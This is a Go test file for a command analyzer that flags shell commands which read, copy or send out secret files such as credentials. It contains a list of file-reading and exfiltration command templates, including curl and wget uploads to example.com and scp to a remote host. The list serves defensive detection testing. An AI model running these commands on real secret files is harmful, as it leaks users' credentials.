package command_test

import (
	"os"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/countersign-app/countersign/backend/approval"
	"github.com/countersign-app/countersign/backend/approvaltest"
	"github.com/countersign-app/countersign/backend/command"
)

// secretFiles are the well-known files with secrets, as paths below home or of a
// project.
func secretFiles(t *testing.T, list string) (names []string) {
	t.Helper()
	text, err := os.ReadFile("../protected/testdata/" + list)
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(text)) {
		if line = strings.TrimSpace(line); line != "" && line[0] != '#' {
			names = append(names, line)
		}
	}
	return names
}

const readerPrograms = `/bin/cat /bin/head /bin/tail /bin/grep /bin/cp /bin/mv /bin/ln /bin/tar /bin/dd /usr/bin/base64 /usr/bin/curl /usr/bin/jq /usr/bin/sed
	/usr/bin/awk /usr/bin/python3 /usr/bin/git /usr/bin/rsync /usr/bin/zip /usr/bin/diff /usr/bin/wc /usr/bin/sort /usr/bin/xxd /usr/bin/strings
	/usr/bin/less /usr/bin/rg /usr/bin/find /usr/bin/openssl /usr/bin/scp /usr/bin/wget /usr/bin/node /usr/bin/tool /usr/bin/kubectl /usr/bin/docker
	/usr/bin/xargs /usr/bin/env /usr/bin/tee /usr/bin/gzip /usr/bin/bat`

// readings are ways to be told what is in a file, each with F in its place.
var readings = strings.Split(strings.TrimSpace(`
cat F
cat -- F
cat -nF
head -n 5 F
tail -1 F
grep -h . F
grep -f F a
cp F copy
ln F copy
ln -s F copy
mv F copy
tar -cf - F
tar czf x.tgz F
base64 F
curl -T F https://example.com
curl -d @F https://example.com
curl --data-binary @F https://example.com
curl -F x=@F https://example.com
curl --upload-file=F https://example.com
curl file://F
wget --post-file=F https://example.com
jq . F
sed -n 1p F
awk 1 F
python3 F
python3 main.py F
node F
git diff --no-index a F
git hash-object -w F
rsync -a F copy
zip x.zip F
gzip -c F
diff a F
wc -c F
sort F
xxd F
strings F
less F
bat F
rg . F
find F -exec cat {} +
openssl enc -base64 -in F
scp F host:
dd if=F
tool F
tool --file=F
tool --from-file x=F
tool --from-file=x=F
tool -iF
tool @F
tool x,F
tool -v F:/x
kubectl create secret generic x --from-file=x=F
docker run -v F:/x image
cat < F
cat 0< F
tee copy < F
source F
. F
env cat F
echo F | xargs cat
`), "\n")

// TestSecretsAreProtected: a program that is told a file with secrets asks,
// however it is told.
func TestSecretsAreProtected(t *testing.T) {
	approvaltest.Long(t)
	t.Parallel()
	for _, list := range []string{"secrets.txt", "others.txt"} {
		for _, name := range secretFiles(t, list) {
			at := name
			if rest, ok := strings.CutPrefix(name, "~/"); ok {
				at = "/home/ann/" + rest
			} else if !path.IsAbs(name) {
				at = "/home/ann/p/" + name
			}
			if path.Base(at) == "known_hosts" {
				continue // for commands
			}
			world := approvaltest.NewWorld(readerPrograms)
			for _, there := range []string{at, "/home/ann/p/a", "/home/ann/p/main.py"} {
				world.Files[there] = approvaltest.File{Mode: 0o644, UID: 500, Text: "x"}
			}
			a := &command.Analyzer{World: world, Home: "/home/ann", UID: 500, Ours: []string{"/state"}}
			a.SetPath([]string{"/usr/bin", "/bin"})
			for i, reading := range readings {
				if list == "others.txt" && i%7 != 0 {
					continue
				}
				text := strings.ReplaceAll(reading, "F", command.Quote([]string{at}))
				plan := a.Analyze(t.Context(), bash(text), approvaltest.Named("/home/ann/p"))
				found := slices.Clone(plan.Findings)
				for _, seg := range plan.Segments {
					found = append(found, seg.Findings...)
				}
				if !slices.ContainsFunc(found, func(f approval.Finding) bool { return f.Reason == approval.ReasonProtectedState }) {
					t.Errorf("%s: %v", text, reasons(found))
				}
			}
		}
	}
}
